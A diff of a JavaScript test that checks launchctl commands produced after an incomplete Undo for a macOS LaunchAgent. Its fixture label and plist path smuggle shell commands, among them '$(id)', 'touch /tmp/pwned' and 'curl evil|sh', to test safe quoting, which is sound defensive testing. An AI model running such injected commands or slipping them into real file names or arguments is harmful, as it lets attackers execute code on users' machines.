@@ -33,7 +33,7 @@ describe('commands to paste', () => {
   });
 
   it("what is left to do after an Undo stops short runs launchctl with the item's own label and file", () => {
-    const label = "com.x d;touch /tmp/pwned $(id) `id` 'q'";
+    const label = "<com.x d;touch /tmp/pwned $(id) `id` 'q'>";
     const path = "/Users/alice/Library/LaunchAgents/x;curl evil|sh;'.plist";
     expect(pastedCalls(whatIsLeft('gui/501', label, path))).toEqual([
       ['enable', `gui/501/${label}`],
